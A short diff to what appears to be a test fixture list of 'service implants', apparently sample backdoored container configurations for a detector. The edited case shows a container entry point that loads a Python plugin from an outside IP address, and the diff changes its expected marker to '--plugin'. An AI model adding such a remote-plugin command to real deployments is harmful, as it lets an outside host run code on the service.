@@ -190,7 +190,7 @@ export const serviceImplants = [
   api(
     'arguments',
     'Only the arguments of the entry point changed: a module is loaded from elsewhere.',
-    ['cmd'],
+    ['--plugin'],
     on('shop-api', 'CMD ["shop", "--plugin", "http://198.51.100.23/plugin.py"]'),
     SHOWN,
   ),
